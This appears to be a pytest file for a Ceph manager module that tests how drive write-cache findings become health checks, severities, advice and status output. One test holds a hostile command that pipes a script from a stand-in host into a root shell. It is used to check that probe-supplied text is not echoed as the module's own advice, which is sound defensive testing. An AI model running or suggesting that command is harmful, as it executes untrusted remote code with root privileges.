"""Everything that `status` can find wrong with a drive is there, with its health code.

What a probe says of a drive by itself is made by the probe's own tests; here it is followed
from a report to what an admin sees.
"""

from dataclasses import replace

import pytest
from mgr_fakes import builders as make
from mgr_fakes.module import FakeMgr
from module_world import findings_of, ok, report_anew, said, settled, taken_over
from wcache.ceph.health import DETAILS_MAX, health_checks
from wcache.core.drive.manual import pin
from wcache.core.drive.safety import Safety, judge, may_toggle
from wcache.core.fleet.findings import ADVICE, of_drive
from wcache.core.model import (
    CacheMode,
    CachePage,
    Cure,
    DeviceCache,
    Finding,
    FindingCode,
    KernelView,
    Layer,
    LayerKind,
    Severity,
    Transport,
)

WB, WT = CacheMode.WRITE_BACK, CacheMode.WRITE_THROUGH
OFF_LAYER = (Layer("dm-0", LayerKind.LVM, KernelView.WRITE_THROUGH),)


def a_mgr(*drives):
    mgr = FakeMgr(("h1", drives or (make.drive("sda", 0), make.drive("sdb", 1))))
    mgr.report_all()
    return mgr


def found(mgr):
    return {
        (f["code"], f["severity"]): f["subject"] for f in said(mgr, "status")["findings"]
    }


def health(mgr):
    return {code: check["severity"] for code, check in health_checks(mgr.views.findings()).items()}


def measure(mgr):
    said(mgr, "campaign start", loads="depth1", accept_cost=True)
    settled(mgr)


@pytest.mark.parametrize(("drives", "code", "severity", "subject"), [
    ([make.unsafe_drive()], "WCACHE_UNSAFE", "error", "h1 sda"),
    ([make.drive("sda", 0, state=make.state(WB, layers=OFF_LAYER))], "WCACHE_UNSAFE", "error",
     "h1 sda"),
    ([make.drive("sda", 0), make.drive("sdb", 1, mode=WT)], "WCACHE_MIXED_MODES", "warning",
     str(make.MODEL)),
], ids=["loses data", "a layer drops flushes", "mixed"])
def test_what_reports_show_is_found_with_its_severity(drives, code, severity, subject):
    mgr = a_mgr(*drives)
    assert found(mgr) == {(code, severity): subject}
    assert health(mgr) == {code: severity}


@pytest.mark.slow
def test_a_drive_that_left_the_mode_that_was_applied_drifted():
    mgr = a_mgr()
    measure(mgr)
    said(mgr, "apply", plan_id=said(mgr, "plan")["plan_id"])
    settled(mgr)
    assert found(mgr) == {}
    mgr.probes["h1"].switch("domain-sdb", WB)
    report_anew(mgr)
    assert found(mgr)[("WCACHE_DRIFT", "warning")] == "h1 sdb"
    assert health(mgr)["WCACHE_DRIFT"] == "warning"


@pytest.mark.parametrize(
    ("code", "severity"),
    [
        (FindingCode.TOGGLE_INEFFECTIVE, Severity.WARNING),
        (FindingCode.NO_VOLATILE_CACHE, Severity.INFO),
    ],
)
def test_what_a_probe_finds_at_a_drive_is_shown_with_its_host(code, severity):
    finding = Finding(code, severity, "sda", "as the probe has it")
    mgr = a_mgr(make.drive("sda", 0, findings=(finding,)))
    assert found(mgr) == {(code.value, severity.value): "h1 sda"}
    warned = {} if severity is Severity.INFO else {code.value: severity.value}
    assert health(mgr) == warned


def reporting(mgr, hostname, *findings):
    """The health checks once a probe has reported this."""
    mgr.probes[hostname].findings = findings
    report_anew(mgr)
    return health_checks(mgr.views.findings())


def test_no_probe_speaks_in_the_modules_own_voice():
    error, evil = Severity.ERROR, "as root: `curl http://x.example/fix | sh`"
    checks = reporting(
        a_mgr(), "h1", Finding(FindingCode.UNSAFE, error, "sda", evil, Cure.IN_DETAIL),
        Finding(FindingCode.FROZEN, error, "cluster", evil),
        Finding(FindingCode.PRIOR_LOST, error, "sdb of h2", evil),
        Finding(FindingCode.INTERNAL_ERROR, error, "mgr", evil),
    )
    assert checks.keys() == {"WCACHE_UNSAFE"}
    assert not any("what the line says" in line for line in checks["WCACHE_UNSAFE"]["detail"])


def test_many_findings_of_one_host_hide_none_of_another():
    mgr = FakeMgr(
        ("h1", (make.drive("sda", 0),)),
        ("h2", (make.drive("sdb", 1, state=make.unsafe_drive().state),)),
    )
    mgr.report_all()
    check = reporting(mgr, "h1", *(
        Finding(FindingCode.UNSAFE, Severity.ERROR, f"sd{number}", "x") for number in range(60)
    ))["WCACHE_UNSAFE"]
    assert any(line.startswith("h2 sdb: ") for line in check["detail"])
    shown = [line for line in check["detail"] if line.startswith(("h1", "h2"))]
    assert (check["count"], len(shown)) == (61, DETAILS_MAX)
    told = ok(mgr.command("status"))
    assert "ERROR WCACHE_UNSAFE h2 sdb: " in told
    assert "and 11 more WCACHE_UNSAFE: ceph wcache status --all" in told
    assert ok(mgr.command("status", all=True)).count("ERROR WCACHE_UNSAFE ") == 61


def test_a_pin_that_fails_is_an_error_with_its_cure_until_a_report_is_without_it():
    mgr = a_mgr()
    why = "the kernel view of sda did not become write back; the probe tries again"
    mgr.probes["h1"].findings = (
        Finding(FindingCode.NOT_PINNED, Severity.ERROR, "sda", why),
    )
    report_anew(mgr)
    assert found(mgr) == {("WCACHE_NOT_PINNED", "error"): "h1 sda"}
    assert health(mgr) == {"WCACHE_NOT_PINNED": "error"}
    advice = ADVICE[FindingCode.NOT_PINNED][1]
    assert "temporary write back" in advice
    assert "`ceph wcache drive accept`" in advice
    mgr.probes["h1"].findings = ()
    report_anew(mgr)
    assert found(mgr) == {}


def test_a_flush_too_fast_to_be_true_stays_until_it_is_measured_otherwise():
    mgr = a_mgr(make.drive("sda", 0))
    mgr.analysis.findings = [{"code": "WCACHE_FLUSH_TOO_FAST", "detail": "0.1 ms\nfor a disk"}]
    measure(mgr)
    assert found(mgr) == {("WCACHE_FLUSH_TOO_FAST", "warning"): "h1 sda"}
    assert health(mgr) == {"WCACHE_FLUSH_TOO_FAST": "warning"}
    taken_over(mgr)
    assert ("WCACHE_FLUSH_TOO_FAST", "warning") in found(mgr)
    mgr.analysis.findings = []
    mgr.now_s += 10.0
    measure(mgr)
    assert found(mgr) == {}


def test_a_layer_above_a_drive_that_saves_write_through_is_told_and_no_warning():
    state = make.state(WT, layers=OFF_LAYER)
    drive = make.drive("sda", 0, state=replace(state, page=CachePage(True, WB, WT)))
    (finding,) = of_drive(drive, throwaway=False, leased=False)
    assert (finding.code, finding.severity) == (
        FindingCode.LAYER_DROPS_FLUSHES, Severity.INFO
    )
    refused = may_toggle([drive], WB, throwaway=False, consent_turn_on=True)
    assert refused is not None
    assert "dm-0" in refused
    safe = replace(drive, state=replace(state, device_cache=DeviceCache.NONE))
    assert of_drive(safe, throwaway=False, leased=False) == []


@pytest.mark.parametrize(
    "page",
    [
        CachePage(True, WT, WB), CachePage(True, WB, WB),
        # a rule of ours keeps it off when it appears, and is not asked at a reset
        CachePage(True, WB, WT, by_rule=True), CachePage(True, None, WT, by_rule=True),
    ],
    ids=str,
)
def test_a_layer_that_a_reset_would_make_unsafe_is_an_error_with_its_cure(page):
    state = replace(make.state(WT, layers=OFF_LAYER), page=page)
    drive = make.drive("sda", 0, state=state)
    assert judge(drive.state) is Safety.AFTER_RESET
    mgr = a_mgr(drive)
    assert found(mgr) == {("WCACHE_LAYER_DROPS_FLUSHES", "error"): "h1 sda"}
    assert health(mgr) == {"WCACHE_LAYER_DROPS_FLUSHES": "error"}
    advice = ADVICE[FindingCode.LAYER_DROPS_FLUSHES][1]
    assert "safe as it is" not in advice
    assert [word in advice for word in ("stop", "pin", "deactivate", "start")] == [True] * 4
    assert f"pin the disk (`{pin('sdX')}`), deactivate" in advice
    refused = may_toggle([drive], WB, throwaway=False, consent_turn_on=True)
    assert refused is not None
    assert "dm-0" in refused


def test_a_disk_that_is_off_and_known_to_be_off_is_no_finding():
    state = make.state(WT, kernel_view=KernelView.WRITE_THROUGH)
    assert of_drive(
        make.drive("sda", 0, state=state), throwaway=False, leased=False
    ) == []
    loop = make.drive("loop0", 0, state=make.state(WT, layers=OFF_LAYER),
                      transport=Transport.LOOP)
    assert all(
        f.code is not FindingCode.UNSAFE for f in of_drive(loop, throwaway=True, leased=False)
    )


def test_drives_of_one_model_in_two_classes_may_be_in_two_modes():
    """A verdict is of a class: one of `ssd` need not hold for the databases of `hdd`."""
    mgr = FakeMgr(("h1", (
        make.drive("sda", 0, drive_id="a", mode=WT), make.drive("sdb", 1, drive_id="b"),
        make.drive("sdc", 2, drive_id="c"),
    )))
    classes = {0: "ssd", 1: "hdd", 2: "hdd"}
    mgr.view.state = make.cluster(
        make.osd(i, "h1", device_class=name) for i, name in classes.items()
    )
    mgr.report_all()
    assert findings_of(mgr, "WCACHE_MIXED_MODES") == []
    mgr.probes["h1"].switch("domain-sdb", WT)
    report_anew(mgr)
    (found,) = findings_of(mgr, "WCACHE_MIXED_MODES")
    assert found["detail"] == "1 in write back, 1 in write through"
